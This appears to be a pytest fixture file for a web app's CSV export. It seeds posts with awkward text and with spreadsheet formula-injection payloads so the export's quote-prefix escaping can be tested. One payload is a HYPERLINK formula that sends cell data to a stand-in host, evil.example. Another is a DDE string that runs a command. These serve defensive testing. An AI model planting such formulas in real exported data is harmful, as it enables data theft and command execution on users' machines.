from __future__ import annotations

import pytest

from app.db import db
from app.seed import seed_posts

TRICKY_BODIES = [
    "plain",
    "comma, inside",
    'quote " inside and "quoted"',
    "new\nline and\r\nCRLF",
    "tab\there",
    "Grüße 東京 🚀",
    "",
    "=1+1",
    # What a spreadsheet would run as a formula: CSV exports quote these
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tleading tab",
    "\rleading CR",
    "\\.",  # COPY's end-of-data marker
]


def as_csv_text(body: str) -> str:
    """A body as CSV exports write it: prefixed with a single quote where a
    spreadsheet would take it for a formula (OWASP's CSV injection advice)."""
    return "'" + body if body[:1] in ("=", "+", "-", "@", "\t", "\r") else body


@pytest.fixture()
def posts(app, user):
    """The user's posts: every tricky body, then some seeded ones."""
    from app.models import Post

    user_id, _ = user
    with app.app_context():
        for body in TRICKY_BODIES:
            db.session.add(Post(user_id=user_id, body=body))
        db.session.commit()
        seed_posts(user_id, 50)
        return [
            (p.id, p.body, p.created_at)
            for p in db.session.scalars(
                db.select(Post).where(Post.user_id == user_id).order_by(Post.id)
            )
        ]
